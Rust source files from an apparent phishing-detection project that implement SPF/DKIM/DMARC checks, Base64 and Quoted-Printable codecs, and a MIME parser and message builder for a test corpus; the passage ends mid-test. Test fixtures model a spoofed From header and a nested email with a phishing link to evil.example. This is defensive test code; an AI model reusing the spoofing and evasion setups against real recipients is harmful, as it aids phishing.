#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct AuthResults {
    /// Sender Policy Framework verdict.
    pub spf: AuthVerdict,
    /// DomainKeys Identified Mail verdict.
    pub dkim: AuthVerdict,
    /// Domain-based Message Authentication verdict.
    pub dmarc: AuthVerdict,
}

impl AuthResults {
    /// The triple observed on every message in the paper's dataset.
    pub fn all_pass() -> Self {
        AuthResults {
            spf: AuthVerdict::Pass,
            dkim: AuthVerdict::Pass,
            dmarc: AuthVerdict::Pass,
        }
    }

    /// `true` if all three mechanisms passed.
    pub fn fully_authenticated(&self) -> bool {
        self.spf == AuthVerdict::Pass
            && self.dkim == AuthVerdict::Pass
            && self.dmarc == AuthVerdict::Pass
    }
}

impl fmt::Display for AuthResults {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "spf={} dkim={} dmarc={}",
            self.spf, self.dkim, self.dmarc
        )
    }
}

/// Simplified sender-domain authentication database: which IPs may send for
/// a domain (SPF) and which domains have DKIM keys deployed.
#[derive(Debug, Clone, Default)]
pub struct AuthPolicyDb {
    spf_records: BTreeSet<(String, u32)>,
    dkim_domains: BTreeSet<String>,
}

impl AuthPolicyDb {
    /// An empty database.
    pub fn new() -> Self {
        Self::default()
    }

    /// Authorize `ip` (an opaque IPv4 as u32) to send mail for `domain`.
    pub fn authorize_sender(&mut self, domain: &str, ip: u32) {
        self.spf_records.insert((domain.to_ascii_lowercase(), ip));
    }

    /// Register a DKIM signing key for `domain`.
    pub fn deploy_dkim(&mut self, domain: &str) {
        self.dkim_domains.insert(domain.to_ascii_lowercase());
    }

    /// Evaluate the triple for a message sent from `sending_ip`, with
    /// envelope-from `mail_from`, signed by `dkim_domain` (if any), and
    /// header `From:` `header_from`.
    ///
    /// DMARC passes when SPF or DKIM passes *and* the passing identifier's
    /// domain matches the header-from domain (relaxed alignment: exact or
    /// parent-domain match).
    pub fn evaluate(
        &self,
        sending_ip: u32,
        mail_from: &EmailAddress,
        dkim_domain: Option<&str>,
        header_from: &EmailAddress,
    ) -> AuthResults {
        let spf = if self
            .spf_records
            .contains(&(mail_from.domain().to_string(), sending_ip))
        {
            AuthVerdict::Pass
        } else {
            AuthVerdict::Fail
        };
        let dkim = match dkim_domain {
            Some(d) if self.dkim_domains.contains(&d.to_ascii_lowercase()) => AuthVerdict::Pass,
            Some(_) => AuthVerdict::Fail,
            None => AuthVerdict::None,
        };
        let aligned = |d: &str| {
            let from = header_from.domain();
            d == from || from.ends_with(&format!(".{d}")) || d.ends_with(&format!(".{from}"))
        };
        let dmarc_pass = (spf == AuthVerdict::Pass && aligned(mail_from.domain()))
            || (dkim == AuthVerdict::Pass && dkim_domain.map(aligned).unwrap_or(false));
        AuthResults {
            spf,
            dkim,
            dmarc: if dmarc_pass {
                AuthVerdict::Pass
            } else {
                AuthVerdict::Fail
            },
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn addr(s: &str) -> EmailAddress {
        s.parse().unwrap()
    }

    #[test]
    fn legitimate_sender_passes_all() {
        let mut db = AuthPolicyDb::new();
        db.authorize_sender("partner.example", 0x0A00_0001);
        db.deploy_dkim("partner.example");
        let r = db.evaluate(
            0x0A00_0001,
            &addr("billing@partner.example"),
            Some("partner.example"),
            &addr("billing@partner.example"),
        );
        assert!(r.fully_authenticated());
    }

    #[test]
    fn wrong_ip_fails_spf_but_dkim_can_carry_dmarc() {
        let mut db = AuthPolicyDb::new();
        db.authorize_sender("partner.example", 1);
        db.deploy_dkim("partner.example");
        let r = db.evaluate(
            2,
            &addr("x@partner.example"),
            Some("partner.example"),
            &addr("x@partner.example"),
        );
        assert_eq!(r.spf, AuthVerdict::Fail);
        assert_eq!(r.dkim, AuthVerdict::Pass);
        assert_eq!(r.dmarc, AuthVerdict::Pass);
    }

    #[test]
    fn spoofed_from_fails_dmarc_despite_spf_pass() {
        // Attacker controls evil.example infrastructure but spoofs the
        // header From to the impersonated brand: SPF passes for the envelope
        // domain yet DMARC alignment with the From domain fails.
        let mut db = AuthPolicyDb::new();
        db.authorize_sender("evil.example", 9);
        let r = db.evaluate(
            9,
            &addr("bounce@evil.example"),
            None,
            &addr("security@corp.example"),
        );
        assert_eq!(r.spf, AuthVerdict::Pass);
        assert_eq!(r.dmarc, AuthVerdict::Fail);
        assert!(!r.fully_authenticated());
    }

    #[test]
    fn relaxed_alignment_accepts_subdomain() {
        let mut db = AuthPolicyDb::new();
        db.authorize_sender("mail.partner.example", 7);
        let r = db.evaluate(
            7,
            &addr("x@mail.partner.example"),
            None,
            &addr("x@partner.example"),
        );
        assert_eq!(r.dmarc, AuthVerdict::Pass);
    }

    #[test]
    fn unsigned_message_has_dkim_none() {
        let db = AuthPolicyDb::new();
        let r = db.evaluate(1, &addr("a@b.example"), None, &addr("a@b.example"));
        assert_eq!(r.dkim, AuthVerdict::None);
        assert_eq!(r.dmarc, AuthVerdict::Fail);
    }

    #[test]
    fn all_pass_constructor() {
        assert!(AuthResults::all_pass().fully_authenticated());
        assert_eq!(AuthResults::all_pass().to_string(), "spf=pass dkim=pass dmarc=pass");
    }
}
