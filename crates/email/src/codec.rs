//! Content-transfer-encoding codecs: Base64 (RFC 4648) and Quoted-Printable
//! (RFC 2045 §6.7).
//!
//! Message-level evasion routinely hides payloads behind these encodings
//! (paper §III-A: "parts of the message are encoded in Base64"), so the
//! parser must decode them before URL extraction — and the corpus generator
//! must encode them.

use std::fmt;

const B64_ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

/// Errors produced when decoding Base64 input.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Base64Error {
    /// A byte outside the Base64 alphabet (and not padding or whitespace).
    InvalidByte(u8),
    /// The non-whitespace payload length is not a multiple of 4, or padding
    /// appears in the wrong place.
    InvalidLength,
}

impl fmt::Display for Base64Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Base64Error::InvalidByte(b) => write!(f, "invalid base64 byte 0x{b:02x}"),
            Base64Error::InvalidLength => write!(f, "base64 payload has invalid length"),
        }
    }
}

impl std::error::Error for Base64Error {}

/// Encode `data` as Base64 with no line wrapping.
///
/// The output is accumulated as raw ASCII bytes and converted to `String`
/// once at the end — the alphabet and padding are pure ASCII, so the final
/// UTF-8 check is a single linear validation instead of per-char encoding.
pub fn base64_encode(data: &[u8]) -> String {
    let mut out = Vec::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let b0 = chunk[0] as u32;
        let b1 = chunk.get(1).copied().unwrap_or(0) as u32;
        let b2 = chunk.get(2).copied().unwrap_or(0) as u32;
        let triple = (b0 << 16) | (b1 << 8) | b2;
        out.push(B64_ALPHABET[(triple >> 18) as usize & 63]);
        out.push(B64_ALPHABET[(triple >> 12) as usize & 63]);
        out.push(if chunk.len() > 1 {
            B64_ALPHABET[(triple >> 6) as usize & 63]
        } else {
            b'='
        });
        out.push(if chunk.len() > 2 {
            B64_ALPHABET[triple as usize & 63]
        } else {
            b'='
        });
    }
    String::from_utf8(out).expect("base64 output is ASCII")
}

/// Encode as Base64 wrapped to 76-character lines (the MIME convention).
pub fn base64_encode_wrapped(data: &[u8]) -> String {
    let flat = base64_encode(data);
    let mut out = Vec::with_capacity(flat.len() + flat.len().div_ceil(76) * 2);
    for (i, line) in flat.as_bytes().chunks(76).enumerate() {
        if i > 0 {
            out.extend_from_slice(b"\r\n");
        }
        out.extend_from_slice(line);
    }
    String::from_utf8(out).expect("wrapped base64 output is ASCII")
}

fn b64_value(b: u8) -> Option<u8> {
    match b {
        b'A'..=b'Z' => Some(b - b'A'),
        b'a'..=b'z' => Some(b - b'a' + 26),
        b'0'..=b'9' => Some(b - b'0' + 52),
        b'+' => Some(62),
        b'/' => Some(63),
        _ => None,
    }
}

/// Decode Base64, tolerating interleaved ASCII whitespace (MIME bodies are
/// line-wrapped).
///
/// # Errors
///
/// Returns [`Base64Error`] on alphabet violations or bad padding.
pub fn base64_decode(text: &str) -> Result<Vec<u8>, Base64Error> {
    let mut out = Vec::with_capacity(text.len() / 4 * 3);
    base64_decode_into(text, &mut out)?;
    Ok(out)
}

/// [`base64_decode`] into a caller-provided buffer, appending to `out` —
/// the zero-allocation variant for callers that reuse one scratch buffer
/// across many bodies.
///
/// # Errors
///
/// Returns [`Base64Error`] on alphabet violations or bad padding; `out` may
/// hold partially decoded data after an error.
pub fn base64_decode_into(text: &str, out: &mut Vec<u8>) -> Result<(), Base64Error> {
    let mut quad = [0u8; 4];
    let mut fill = 0usize;
    let mut pad = 0usize;
    for &b in text.as_bytes() {
        if b.is_ascii_whitespace() {
            continue;
        }
        if b == b'=' {
            // RFC 4648: at most two pads, never in the first two positions.
            if fill < 2 || pad >= 2 {
                return Err(Base64Error::InvalidLength);
            }
            pad += 1;
            quad[fill] = 0;
            fill += 1;
        } else {
            if pad > 0 {
                // data after padding
                return Err(Base64Error::InvalidLength);
            }
            quad[fill] = b64_value(b).ok_or(Base64Error::InvalidByte(b))?;
            fill += 1;
        }
        if fill == 4 {
            let triple = ((quad[0] as u32) << 18)
                | ((quad[1] as u32) << 12)
                | ((quad[2] as u32) << 6)
                | quad[3] as u32;
            out.push((triple >> 16) as u8);
            if pad < 2 {
                out.push((triple >> 8) as u8);
            }
            if pad == 0 {
                out.push(triple as u8);
            }
            fill = 0;
            if pad > 0 {
                pad = 3; // any further non-whitespace byte is an error
            }
        }
    }
    if fill != 0 {
        return Err(Base64Error::InvalidLength);
    }
    Ok(())
}

/// Encode text as Quoted-Printable (RFC 2045 §6.7), wrapping at 76 columns
/// with soft line breaks.
///
/// Output is built as ASCII bytes with table-driven hex escapes (no
/// per-escape `format!` allocations) and converted to `String` once.
pub fn quoted_printable_encode(data: &[u8]) -> String {
    const HEX: &[u8; 16] = b"0123456789ABCDEF";
    let esc = |b: u8| [b'=', HEX[(b >> 4) as usize], HEX[(b & 0xf) as usize]];
    let mut out = Vec::with_capacity(data.len() + data.len() / 8);
    let mut col = 0usize;
    let push = |s: &[u8], col: &mut usize, out: &mut Vec<u8>| {
        if *col + s.len() > 75 {
            out.extend_from_slice(b"=\r\n");
            *col = 0;
        }
        out.extend_from_slice(s);
        *col += s.len();
    };
    let mut i = 0;
    while i < data.len() {
        let b = data[i];
        match b {
            b'\r' if data.get(i + 1) == Some(&b'\n') => {
                out.extend_from_slice(b"\r\n");
                col = 0;
                i += 2;
                continue;
            }
            b'\n' => {
                out.extend_from_slice(b"\r\n");
                col = 0;
            }
            b'=' => push(&esc(b), &mut col, &mut out),
            b' ' | b'\t' => {
                // Trailing whitespace before a line break must be encoded;
                // we conservatively encode whitespace at end of input or line.
                let at_line_end = matches!(data.get(i + 1), None | Some(b'\r') | Some(b'\n'));
                if at_line_end {
                    push(&esc(b), &mut col, &mut out);
                } else {
                    push(&[b], &mut col, &mut out);
                }
            }
            0x21..=0x7e => push(&[b], &mut col, &mut out),
            _ => push(&esc(b), &mut col, &mut out),
        }
        i += 1;
    }
    String::from_utf8(out).expect("quoted-printable output is ASCII")
}

/// Decode Quoted-Printable text. Invalid escape sequences are passed through
/// literally, matching the leniency of real mail software.
pub fn quoted_printable_decode(text: &str) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    quoted_printable_decode_into(text, &mut out);
    out
}

/// [`quoted_printable_decode`] into a caller-provided buffer, appending to
/// `out` — the zero-allocation variant for reusable scratch buffers.
pub fn quoted_printable_decode_into(text: &str, out: &mut Vec<u8>) {
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'=' {
            // soft line break: '=' CRLF or '=' LF
            if bytes.get(i + 1) == Some(&b'\r') && bytes.get(i + 2) == Some(&b'\n') {
                i += 3;
                continue;
            }
            if bytes.get(i + 1) == Some(&b'\n') {
                i += 2;
                continue;
            }
            let hex = |b: u8| -> Option<u8> {
                match b {
                    b'0'..=b'9' => Some(b - b'0'),
                    b'A'..=b'F' => Some(b - b'A' + 10),
                    b'a'..=b'f' => Some(b - b'a' + 10),
                    _ => None,
                }
            };
            if let (Some(&h), Some(&l)) = (bytes.get(i + 1), bytes.get(i + 2)) {
                if let (Some(h), Some(l)) = (hex(h), hex(l)) {
                    out.push((h << 4) | l);
                    i += 3;
                    continue;
                }
            }
            out.push(b'=');
            i += 1;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base64_rfc4648_vectors() {
        assert_eq!(base64_encode(b""), "");
        assert_eq!(base64_encode(b"f"), "Zg==");
        assert_eq!(base64_encode(b"fo"), "Zm8=");
        assert_eq!(base64_encode(b"foo"), "Zm9v");
        assert_eq!(base64_encode(b"foob"), "Zm9vYg==");
        assert_eq!(base64_encode(b"fooba"), "Zm9vYmE=");
        assert_eq!(base64_encode(b"foobar"), "Zm9vYmFy");
    }

    #[test]
    fn base64_round_trip_binary() {
        let data: Vec<u8> = (0..=255).collect();
        assert_eq!(base64_decode(&base64_encode(&data)).unwrap(), data);
    }

    #[test]
    fn base64_decode_tolerates_whitespace() {
        assert_eq!(base64_decode("Zm9v\r\nYmFy").unwrap(), b"foobar");
        assert_eq!(base64_decode("Z g = =").unwrap(), b"f");
    }

    #[test]
    fn base64_decode_rejects_garbage() {
        assert_eq!(base64_decode("Zm9!"), Err(Base64Error::InvalidByte(b'!')));
        assert_eq!(base64_decode("Zm9"), Err(Base64Error::InvalidLength));
        assert_eq!(base64_decode("Zg==Zg=="), Err(Base64Error::InvalidLength));
    }

    #[test]
    fn base64_wrapped_lines_are_76_cols() {
        let data = vec![0xAB; 100];
        let s = base64_encode_wrapped(&data);
        for line in s.lines() {
            assert!(line.len() <= 76);
        }
        assert_eq!(base64_decode(&s).unwrap(), data);
    }

    #[test]
    fn qp_round_trip_ascii() {
        let text = b"Hello, world! Simple ASCII stays readable.";
        let enc = quoted_printable_encode(text);
        assert_eq!(quoted_printable_decode(&enc), text);
        assert!(enc.contains("Hello, world!"));
    }

    #[test]
    fn qp_encodes_equals_and_high_bytes() {
        let enc = quoted_printable_encode("1=2 caf\u{e9}".as_bytes());
        assert!(enc.contains("=3D"), "{enc}");
        assert!(enc.contains("=C3=A9"), "{enc}");
        assert_eq!(quoted_printable_decode(&enc), "1=2 caf\u{e9}".as_bytes());
    }

    #[test]
    fn qp_soft_breaks_wrap_long_lines() {
        let long = "x".repeat(200);
        let enc = quoted_printable_encode(long.as_bytes());
        for line in enc.split("\r\n") {
            assert!(line.len() <= 76, "line too long: {}", line.len());
        }
        assert_eq!(quoted_printable_decode(&enc), long.as_bytes());
    }

    #[test]
    fn qp_preserves_crlf_structure() {
        let text = b"line one\r\nline two\r\n";
        let enc = quoted_printable_encode(text);
        assert_eq!(quoted_printable_decode(&enc), text);
    }

    #[test]
    fn qp_trailing_space_is_protected() {
        let text = b"trailing \r\nnext";
        let enc = quoted_printable_encode(text);
        assert!(enc.contains("=20"), "{enc}");
        assert_eq!(quoted_printable_decode(&enc), text);
    }

    #[test]
    fn qp_decode_is_lenient_on_bad_escapes() {
        assert_eq!(quoted_printable_decode("a=ZZb"), b"a=ZZb");
        assert_eq!(quoted_printable_decode("end="), b"end=");
    }
}

#[cfg(test)]
mod review_regressions {
    use super::*;

    #[test]
    fn over_padded_base64_is_rejected() {
        assert_eq!(base64_decode("===="), Err(Base64Error::InvalidLength));
        assert_eq!(base64_decode("Z==="), Err(Base64Error::InvalidLength));
        assert_eq!(base64_decode("=g=="), Err(Base64Error::InvalidLength));
        // legal padding still decodes
        assert_eq!(base64_decode("Zg==").unwrap(), b"f");
        assert_eq!(base64_decode("Zm8=").unwrap(), b"fo");
    }
}
