//! The MIME entity tree: recursive parse and synthesis.
//!
//! A [`MimeEntity`] is a header block plus a body that is either a leaf
//! (decoded bytes) or a list of child entities (multipart). Parsing handles
//! boundary delimiters, content-transfer-encodings, and nested
//! `message/rfc822` parts — everything CrawlerBox's §IV-B recursion needs.
//! [`MessageBuilder`] produces wire-format messages for the corpus
//! generator.

use crate::codec;
use crate::content_type::{ContentType, MediaType};
use crate::header::{HeaderMap, ParseHeaderError};
use crate::view;
use std::fmt;

/// Maximum multipart nesting the parser will follow. Attackers nest EMLs in
/// EMLs; real parsers bound the recursion to avoid resource-exhaustion
/// evasion, and so do we.
pub const MAX_DEPTH: usize = 16;

/// The body of a MIME entity.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum MimeBody {
    /// Leaf content, already transfer-decoded.
    Leaf(Vec<u8>),
    /// Multipart children in wire order.
    Multipart(Vec<MimeEntity>),
}

/// One node of the MIME tree.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MimeEntity {
    /// The entity's header block.
    pub headers: HeaderMap,
    /// Its (decoded) body.
    pub body: MimeBody,
}

/// Errors from parsing a message.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ParseMessageError {
    /// The header block was malformed.
    Header(ParseHeaderError),
    /// A multipart type was declared without a `boundary` parameter.
    MissingBoundary,
    /// Multipart nesting exceeded [`MAX_DEPTH`].
    TooDeep,
}

impl fmt::Display for ParseMessageError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ParseMessageError::Header(e) => write!(f, "bad header block: {e}"),
            ParseMessageError::MissingBoundary => {
                write!(f, "multipart content-type without boundary")
            }
            ParseMessageError::TooDeep => write!(f, "multipart nesting exceeds {MAX_DEPTH}"),
        }
    }
}

impl std::error::Error for ParseMessageError {}

impl From<ParseHeaderError> for ParseMessageError {
    fn from(e: ParseHeaderError) -> Self {
        ParseMessageError::Header(e)
    }
}

impl MimeEntity {
    /// Parse a wire-format message.
    ///
    /// # Errors
    ///
    /// Returns [`ParseMessageError`] on malformed headers, a multipart
    /// without boundary, or nesting beyond [`MAX_DEPTH`].
    pub fn parse(raw: &str) -> Result<MimeEntity, ParseMessageError> {
        Self::parse_at_depth(raw, 0)
    }

    fn parse_at_depth(raw: &str, depth: usize) -> Result<MimeEntity, ParseMessageError> {
        if depth > MAX_DEPTH {
            return Err(ParseMessageError::TooDeep);
        }
        let (header_block, body_text) = view::split_header_body(raw);
        let headers = HeaderMap::parse(header_block)?;
        // The borrowed content-type ref answers "is this multipart, and
        // with what boundary" without building the parameter map the owned
        // parse would allocate per entity.
        let ct = headers.get("Content-Type").map(view::ContentTypeRef::parse);

        let body = match ct {
            Some(ct) if ct.media_type() == MediaType::Multipart => {
                let boundary = ct.boundary().ok_or(ParseMessageError::MissingBoundary)?;
                let mut spans = Vec::new();
                view::split_multipart_offsets(body_text, boundary, &mut spans);
                let mut children = Vec::with_capacity(spans.len());
                for (s, e) in spans {
                    children
                        .push(Self::parse_at_depth(&body_text[s as usize..e as usize], depth + 1)?);
                }
                MimeBody::Multipart(children)
            }
            _ => {
                let decoded = decode_transfer(
                    body_text,
                    headers
                        .get("Content-Transfer-Encoding")
                        .unwrap_or("7bit"),
                );
                MimeBody::Leaf(decoded)
            }
        };
        Ok(MimeEntity { headers, body })
    }

    /// The entity's parsed content type ([`ContentType::text_plain`] when
    /// the header is absent).
    pub fn content_type(&self) -> ContentType {
        self.headers
            .get("Content-Type")
            .map(ContentType::parse)
            .unwrap_or_default()
    }

    /// First value of the named header.
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(name)
    }

    /// Leaf body decoded as UTF-8 (lossy), or `None` for multipart bodies.
    pub fn body_text(&self) -> Option<String> {
        match &self.body {
            MimeBody::Leaf(bytes) => Some(String::from_utf8_lossy(bytes).into_owned()),
            MimeBody::Multipart(_) => None,
        }
    }

    /// Leaf body bytes, or `None` for multipart bodies.
    pub fn body_bytes(&self) -> Option<&[u8]> {
        match &self.body {
            MimeBody::Leaf(bytes) => Some(bytes),
            MimeBody::Multipart(_) => None,
        }
    }

    /// The declared attachment filename (Content-Disposition `filename` or
    /// Content-Type `name` parameter).
    pub fn filename(&self) -> Option<String> {
        if let Some(cd) = self.headers.get("Content-Disposition") {
            for param in cd.split(';').skip(1) {
                if let Some((k, v)) = param.split_once('=') {
                    if k.trim().eq_ignore_ascii_case("filename") {
                        return Some(v.trim().trim_matches('"').to_string());
                    }
                }
            }
        }
        self.content_type().params.get("name").cloned()
    }

    /// Depth-first iterator over this entity and all descendants.
    pub fn walk(&self) -> Vec<&MimeEntity> {
        let mut out = vec![self];
        if let MimeBody::Multipart(children) = &self.body {
            for c in children {
                out.extend(c.walk());
            }
        }
        out
    }

    /// All leaf parts (the units the parsing phase dispatches on).
    pub fn leaves(&self) -> Vec<&MimeEntity> {
        self.walk()
            .into_iter()
            .filter(|e| matches!(e.body, MimeBody::Leaf(_)))
            .collect()
    }
}

/// Decode a body per its `Content-Transfer-Encoding`.
fn decode_transfer(body: &str, encoding: &str) -> Vec<u8> {
    match encoding.trim().to_ascii_lowercase().as_str() {
        "base64" => codec::base64_decode(body).unwrap_or_else(|_| body.as_bytes().to_vec()),
        "quoted-printable" => codec::quoted_printable_decode(body),
        _ => body.as_bytes().to_vec(),
    }
}

/// An attachment queued on a [`MessageBuilder`].
#[derive(Debug, Clone)]
struct Attachment {
    filename: String,
    content_type: String,
    data: Vec<u8>,
}

/// Builds wire-format messages.
///
/// Non-consuming builder per Rust API guidelines: configuration methods take
/// `&mut self`, the terminal [`build`](MessageBuilder::build) takes `&self`.
#[derive(Debug, Clone, Default)]
pub struct MessageBuilder {
    from: String,
    to: String,
    subject: String,
    date: Option<String>,
    extra_headers: Vec<(String, String)>,
    text_body: Option<String>,
    html_body: Option<String>,
    attachments: Vec<Attachment>,
    boundary_seed: u64,
}

impl MessageBuilder {
    /// A builder with no fields set.
    pub fn new() -> Self {
        Self::default()
    }

    /// Set the `From:` header.
    pub fn from(&mut self, addr: &str) -> &mut Self {
        self.from = addr.to_string();
        self
    }

    /// Set the `To:` header.
    pub fn to(&mut self, addr: &str) -> &mut Self {
        self.to = addr.to_string();
        self
    }

    /// Set the `Subject:` header.
    pub fn subject(&mut self, s: &str) -> &mut Self {
        self.subject = s.to_string();
        self
    }

    /// Set the `Date:` header (any preformatted string).
    pub fn date(&mut self, d: &str) -> &mut Self {
        self.date = Some(d.to_string());
        self
    }

    /// Append an arbitrary header.
    pub fn header(&mut self, name: &str, value: &str) -> &mut Self {
        self.extra_headers.push((name.to_string(), value.to_string()));
        self
    }

    /// Set a plain-text body part.
    pub fn text_body(&mut self, text: &str) -> &mut Self {
        self.text_body = Some(text.to_string());
        self
    }

    /// Set an HTML body part.
    pub fn html_body(&mut self, html: &str) -> &mut Self {
        self.html_body = Some(html.to_string());
        self
    }

    /// Attach a file with the given content type; it will be base64-encoded.
    pub fn attach(&mut self, filename: &str, content_type: &str, data: &[u8]) -> &mut Self {
        self.attachments.push(Attachment {
            filename: filename.to_string(),
            content_type: content_type.to_string(),
            data: data.to_vec(),
        });
        self
    }

    /// Seed for deterministic boundary strings (corpus generation must be
    /// reproducible).
    pub fn boundary_seed(&mut self, seed: u64) -> &mut Self {
        self.boundary_seed = seed;
        self
    }

    fn boundary(&self, level: u32) -> String {
        format!("=_cbx_{:016x}_{level}", self.boundary_seed ^ 0x5bd1_e995)
    }

    /// Serialize to wire format (CRLF line endings).
    pub fn build(&self) -> String {
        let mut out = String::new();
        let push_header = |name: &str, value: &str, out: &mut String| {
            if !value.is_empty() {
                out.push_str(name);
                out.push_str(": ");
                out.push_str(value);
                out.push_str("\r\n");
            }
        };
        push_header("From", &self.from, &mut out);
        push_header("To", &self.to, &mut out);
        push_header("Subject", &self.subject, &mut out);
        if let Some(d) = &self.date {
            push_header("Date", d, &mut out);
        }
        push_header("MIME-Version", "1.0", &mut out);
        for (n, v) in &self.extra_headers {
            push_header(n, v, &mut out);
        }

        let body_parts = self.body_parts();
        match body_parts.len() {
            0 => {
                out.push_str("Content-Type: text/plain; charset=utf-8\r\n\r\n");
            }
            1 => {
                out.push_str(&body_parts[0]);
            }
            _ => {
                let b = self.boundary(0);
                out.push_str(&format!(
                    "Content-Type: multipart/mixed; boundary=\"{b}\"\r\n\r\n"
                ));
                for part in &body_parts {
                    out.push_str(&format!("--{b}\r\n"));
                    out.push_str(part);
                    out.push_str("\r\n");
                }
                out.push_str(&format!("--{b}--\r\n"));
            }
        }
        out
    }

    /// Render each body part (headers + content) as standalone text.
    fn body_parts(&self) -> Vec<String> {
        let mut parts = Vec::new();
        match (&self.text_body, &self.html_body) {
            (Some(t), Some(h)) => {
                // alternative container as a single "part"
                let b = self.boundary(1);
                let mut s = format!(
                    "Content-Type: multipart/alternative; boundary=\"{b}\"\r\n\r\n"
                );
                s.push_str(&format!(
                    "--{b}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{t}\r\n"
                ));
                s.push_str(&format!(
                    "--{b}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{h}\r\n"
                ));
                s.push_str(&format!("--{b}--\r\n"));
                parts.push(s);
            }
            (Some(t), None) => parts.push(format!(
                "Content-Type: text/plain; charset=utf-8\r\n\r\n{t}"
            )),
            (None, Some(h)) => parts.push(format!(
                "Content-Type: text/html; charset=utf-8\r\n\r\n{h}"
            )),
            (None, None) => {}
        }
        for a in &self.attachments {
            parts.push(format!(
                "Content-Type: {}; name=\"{}\"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"{}\"\r\n\r\n{}",
                a.content_type,
                a.filename,
                a.filename,
                codec::base64_encode_wrapped(&a.data)
            ));
        }
        parts
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn simple_text_message_round_trips() {
        let raw = MessageBuilder::new()
            .from("a@x.example")
            .to("b@y.example")
            .subject("hello")
            .text_body("line one\r\nline two")
            .build();
        let m = MimeEntity::parse(&raw).unwrap();
        assert_eq!(m.header("From"), Some("a@x.example"));
        assert_eq!(m.body_text().unwrap(), "line one\r\nline two");
        assert_eq!(m.content_type().mime(), "text/plain");
    }

    #[test]
    fn alternative_plus_attachment_structure() {
        let raw = MessageBuilder::new()
            .from("a@x.example")
            .subject("invoice")
            .text_body("see attachment")
            .html_body("<p>see attachment</p>")
            .attach("invoice.pdf", "application/pdf", b"%PDF-1.4 fake")
            .build();
        let m = MimeEntity::parse(&raw).unwrap();
        assert_eq!(m.content_type().media_type(), MediaType::Multipart);
        let leaves = m.leaves();
        assert_eq!(leaves.len(), 3);
        let pdf = leaves
            .iter()
            .find(|e| e.content_type().media_type() == MediaType::Pdf)
            .expect("pdf leaf");
        assert_eq!(pdf.body_bytes().unwrap(), b"%PDF-1.4 fake");
        assert_eq!(pdf.filename().as_deref(), Some("invoice.pdf"));
    }

    #[test]
    fn base64_attachment_binary_safe() {
        let data: Vec<u8> = (0..=255).collect();
        let raw = MessageBuilder::new()
            .subject("bin")
            .attach("blob.bin", "application/octet-stream", &data)
            .build();
        let m = MimeEntity::parse(&raw).unwrap();
        let leaf = &m.leaves()[0];
        assert_eq!(leaf.body_bytes().unwrap(), &data[..]);
        assert_eq!(
            leaf.content_type().media_type(),
            MediaType::OctetStream
        );
    }

    #[test]
    fn nested_eml_parses_recursively() {
        let inner = MessageBuilder::new()
            .from("inner@x.example")
            .subject("inner message")
            .text_body("click https://evil.example/token")
            .build();
        let raw = MessageBuilder::new()
            .from("outer@y.example")
            .subject("fwd")
            .text_body("see attached mail")
            .attach("fwd.eml", "message/rfc822", inner.as_bytes())
            .build();
        let m = MimeEntity::parse(&raw).unwrap();
        let eml_leaf = m
            .leaves()
            .into_iter()
            .find(|e| e.content_type().media_type() == MediaType::Eml)
            .unwrap();
        // the EML leaf's bytes are themselves a parseable message
        let inner_parsed =
            MimeEntity::parse(&String::from_utf8(eml_leaf.body_bytes().unwrap().to_vec()).unwrap())
                .unwrap();
        assert_eq!(inner_parsed.header("Subject"), Some("inner message"));
        assert!(inner_parsed.body_text().unwrap().contains("evil.example"));
    }

    #[test]
    fn quoted_printable_body_decodes() {
        let raw = "From: a@x.example\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\ncaf=C3=A9 =3D nice";
        let m = MimeEntity::parse(raw).unwrap();
        assert_eq!(m.body_text().unwrap(), "caf\u{e9} = nice");
    }

    #[test]
    fn multipart_without_boundary_is_error() {
        let raw = "Content-Type: multipart/mixed\r\n\r\nbody";
        assert_eq!(
            MimeEntity::parse(raw),
            Err(ParseMessageError::MissingBoundary)
        );
    }

    #[test]
    fn depth_bomb_is_rejected() {
        // Build MAX_DEPTH+2 nested multiparts.
        let mut body = String::from("Content-Type: text/plain\r\n\r\nleaf");
        for i in 0..(MAX_DEPTH + 2) {
            body = format!(
                "Content-Type: multipart/mixed; boundary=\"b{i}\"\r\n\r\n--b{i}\r\n{body}\r\n--b{i}--\r\n"
            );
        }
        assert_eq!(MimeEntity::parse(&body), Err(ParseMessageError::TooDeep));
    }

    #[test]
    fn unterminated_multipart_is_lenient() {
        let raw = "Content-Type: multipart/mixed; boundary=\"bb\"\r\n\r\n--bb\r\nContent-Type: text/plain\r\n\r\nthe only part";
        let m = MimeEntity::parse(raw).unwrap();
        assert_eq!(m.leaves().len(), 1);
        assert_eq!(m.leaves()[0].body_text().unwrap(), "the only part");
    }

    #[test]
    fn boundary_like_text_inside_part_is_not_a_delimiter() {
        let raw = "Content-Type: multipart/mixed; boundary=\"bb\"\r\n\r\n--bb\r\nContent-Type: text/plain\r\n\r\ntext mentioning --bbx inline\r\n--bb--\r\n";
        let m = MimeEntity::parse(raw).unwrap();
        assert_eq!(m.leaves().len(), 1);
        assert!(m.leaves()[0].body_text().unwrap().contains("--bbx"));
    }

    #[test]
    fn walk_visits_all_nodes() {
        let raw = MessageBuilder::new()
            .text_body("t")
